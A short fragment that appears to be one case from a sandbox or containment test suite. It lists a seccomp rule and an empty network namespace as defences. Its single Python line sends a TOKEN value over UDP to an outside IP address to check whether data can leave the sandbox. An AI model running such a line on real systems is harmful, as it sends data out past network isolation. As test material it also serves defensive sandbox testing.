# title: sends a datagram to the internet
# harm: reaches
# B: seccomp refuses sockets
# C: an empty network namespace
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.sendto(TOKEN.encode(), ('93.184.216.34', 9999)); time.sleep(0.2)
